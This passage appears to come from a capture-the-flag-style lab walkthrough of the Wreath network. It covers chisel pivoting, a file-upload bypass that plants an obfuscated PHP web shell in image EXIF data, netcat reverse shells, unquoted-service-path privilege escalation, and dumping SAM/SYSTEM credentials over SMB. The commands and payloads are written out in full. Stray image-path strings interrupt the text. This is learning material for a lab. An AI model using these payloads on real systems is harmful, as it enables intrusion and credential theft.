evil-winrm -u Administrator -H <admin-hash> -i -s /usr/share/powershell-empire/empire/server/data/module_source/situational_awareness/network/

Now let’s execute a port scan on the .100, specifically the top 50 ports

Invoke-Portscan -Hosts -TopPorts 50

We see that the final host has two ports open, port 80 indicating it is likely hosting a web server and port 3389 for Remote Desktop Protocol.

So now the objective is to pivot from .150 to .100 and our technique will be utilize the chisel forward proxy asthe method. We’ll need 2 chisel binaries for our attack to work – one compatible for Linux machines (our attack machine) and one for Windows (our target). The first step is to open the local firewall port that we will send the website that’s running on the local machine back to on the compromised server. Let’s go back to the evil-winrm session and execute this command:

netsh advfirewall firewall add rule name="Chiselthecyberbarbie" dir=in action=allow protocol=tcp localport=19000

Now we’ll upload the chisel binary from our attack machine to evil-winrm

upload /home/kali/exploits/wreath/chisel-thecyberbarbie.exe

Next, let’s run the chisel executable to verify it installed correctly. If successful, you’ll be met with their help menu which details the general syntax for running chisel and its available commands.


Great, let’s start a chisel server on the exact port we chose to open:

.\chisel-thecyberbarbie.exe server -p 19000

On our attack machine, run the chisel Linux binary to start a chisel client. We’ll be connecting to our target host on the opened firewall port on the compromised host and access our final target’s host on port 80 so we can check out their website.

./chisel-cyberbarbie client 9020:

Let me explain the syntax a bit. specifies the address and port of the Chisel server to connect to. The second argument indicates the port forwarding. We’re telling chisel to forward traffic from the local port 9020 to the remote address on port 80, our final target. Any traffic sent to the client’s local port 9020 will be forwarded through the encrypted tunnel to the Chisel server, and then directed to the remote address on port 80. This allows for secure communication between the client and the remote server through the Chisel tunnel.

The chisel client on ourattack machine received the connection, indicating the double pivot was successful. Now we can navigate to localhost:9020 and inspect our final target.

It’s seemingly a development version of their production server. We can fingerprint the web server usingwhatweb to identifying the underlying software running.

whatweb localhost:9020

We can see it’s running PHP 7.4.11 and it’s utilizing Apache on Windows x64-bit architecture. Let’s try to inspect the source code for the application since we have access to its server. From enumerating I was able to find the location of the repository in C:\Gistack\repositories so we’ll use evil-winrm’s download feature to download this repo

download Website.git

On our attack machine, we can utilize the extractor tool from GitTools and we can read through the Git commits for the repository. The commits aren’t organized by date but we can manually organize them by looking at the parent each of each commit by inspecting the commit meta data.

If we navigate to the resources directory, we’ll find an index.php file where we can view the source code. Our objective is to identify any filters that we can potentially bypass. Let’s analyze this PHP code a bit. Here lies a file upload function that uploads file to a directory called uploads/.There are 2 filters in place. One filter checks if a file is an image based on its size and if the extension of the file falls under jpg, jpeg, png or gif.

The explode() function splits a string into an array based on a specified parameter and uses a period as the delimiter. It will only inspect the first set, not the second. Meaning, if you uploaded a file called image.jpg.php, thefunction only checks for jpg and not php as well. Secondly, to work around the image size limitation, we can add a comment to the image’s metadata with malicious code and if the server executes our image as php, then the malicious code will create a web shell. And this is exactly how we will bypass the file upload filtering!

When we navigate to localhost:9020/resources in the browser, we’re met with a login prompt powered by basic HTTP authentication. Seeing as we captured Thomas Wreath’s password earlier from the mimikatz task we performed earlier of collecting hashes, we can crack the NTLM hash via Hashcat and see if the password has been reused for this web server as well. Spoiler: it is.

Now let’s test our exploit we outlined earlier by first grabbing any image off of the internet. We can run a built-in tool from Kali called exiftool and manipulate thecomment of the exifdata to insert a PHP payload that will simply output the text Test Payload if successful. We’ll name the file Cat-thecyberbarbie.jpeg.php

exiftool -Comment="<?php echo \"<pre>Test Payload</pre>\"; die(); ?>" Cat-thecyberbarbie.jpeg.php

Now upload the file on the web page. If successful we can now navigate to the file via http://localhost:9020/resources/uploads/Cat-thecyberbarbie.jpeg.php. If we inspect at the very bottom that our bypass did indeed work.

Now to ensure our malicious payload will work, we’ll have to obfuscate it in order to get a reverse shell. Our payload will check if the GET parameter called wreath has been set and if true it will execute it using shell_exec() to execute system commands wrapped inside HTML <pre> tags for a clean output. Then it will use the die() function to prevent the rest of the image from appearing. So if our exploit works, we will be able to utilize the wreath parameter to execute commands on the server such as hostname or systeminfo .

    $cmd = $_GET["wreath"];echo "<pre>" . shell_exec($cmd) . "</pre>";

# traditional PHP one liner webshell
<?php system($_GET["cmd"]);?>

Now let’s obfuscate our PHP code using this tool. Enable all options such as encoding strings, removingwhitespaces, obfuscating function and class names and removing comments.

Now here is our obfuscated PHP payload:

<?php $c0=$_GET[base64_decode('d3JlYXRo')];if(isset($c0)){echo base64_decode('PHByZT4=').shell_exec($c0).base64_decode('PC9wcmU+');}die();?>

Now we can upload a different image and modify the comment of the exifdata with our obfuscated payload and proceed to upload the file as Cat-thecyberbarbie.jpeg.php.

Now we can append the wreath parameter to execute different system commands such as sysinfo.


To obtain a reverse shell on a Windows target, we can use Powershell but it’ll require a few steps. First we’ll execute certutil which is a default Windows tool to download CA certificates.


Next we’ll host a statically compiled netcat binary for Windows on our attack machine via python3 -m http.server 80 so that we can utilize our payload to grab that netcat binary off of our server. We’ll save the file on our compromised host’s temp directory.localhost:9020/resources/uploads/thecyberbarbie-thecat.jpg.php?wreath=curl -o c:\\windows\\temp\\nc-thecyberbarbie.exe

Now that our netcat binary is uploaded to the temp directory, let’s use netcat on our attack machine to start a listener so we can catch the reverse shell connection.

nc -nvlp 15001

Let’s execute netcat on our target and perform a reverse connection to our attack machine at the specified port.

http://localhost:9020/resources/uploads/thecyberbarbie-cat.jpg.php?wreath=powershell.exe c:\\\\windows\\\\temp\\\\nc-thecyberbarbie.exe 15001 -e cmd.exe

Now we’ve obtained a shell, albeit not administrator!

Privilege EscalationWe can utilize whoami /priv to check the privileges of our user.

There was nothing too out of the ordinary when enumerating the user’s individual as well as group privileges so perhaps we can find a privilege escalation path through its servers. We can run a check through the system for any unquoted service paths and we find one! Check out System Explorer Service.

wmic service get name,displayname,pathname,startmode | findstr /v /i "C:\Windows"

We can query in Windows for the configuration information of the specified service

sc qc SystemExplorerHelpService

Now let’s retrieve the Access Control List (ACL) for the specified path C:\Program FIles (x86)\System Explorer and display it in list format.

powershell "get-acl -Path 'C:\Program Files (x86)\System Explorer' | format-list"

We can confirm that the system is vulnerable to an unquoted service path vulnerability for a service running as the system account. If we place malicious code in this path, this will provide us a root shell.

So next we will create a C# exploit containing our malicious code on our attack machine. We will exploit the vulnerable path to launch an external executable (nc-thecyberbarbie.exe) with specific command-line arguments. The executable will connect to our attacker machine ( on port 55555 and executing the command cmd.exe.

Next, we will compile the program which will create an executable ending in .exe .

On ourcompromised host, we will use curl to grab the executable.

Next, we will copy the executable to the exact path of our vulnerable service so we can perform privilege escalation and save it as System.exe.

copy C:\xampp\htdocs\resources\uploads\Wrapper-thecyberbarbie.exe "C:\Program Files (x86)\System Explorer\System.exe”

Next, we will use sc stop to stop the service.

sc stop SystemExplorerHelpService

Next, we will restart the service to run our malicious binary! As it will be running our reverse shell, the service will not start in a timely fashion which is a great indicator that our attack successfully worked.

We should see in our netcat listener on port 55555 that we have a system32 shell!

Data Exfiltration

Now that we’ve obtained a reverse shell as System, we can extract thestored credentials on the system. As antivirus is installed on the machine, we can’t use mimikatz but as we are System, we can copy the SAM and SYSTEM files directly.

First we’ll set up an SMB server on our attack machine to download the files

sudo smbserver.py share . -smb2support -username user -password sup3rs3cur3

Now we can connect to our SMB from the compromised host using our credentials

First, let’s save the SAM file to our share.Now let’s save the SYSTEM file to our share.

Next we can extract the SAM passwords on our Kali machine using secretsdump.py

sudo python3 secretsdump.py -sam sam.bak -security security.bak -system system.bak LOCAL


Thankyou for checking out my writeup! If you’re interested in cybersecurity and want to learn about how I transitionedfrom web development to cybersecurity check out my post here. Feel free to share or comment as well asfollow me on Twitter or LinkedIn if you’re interested in seeingwhen I publish my next post!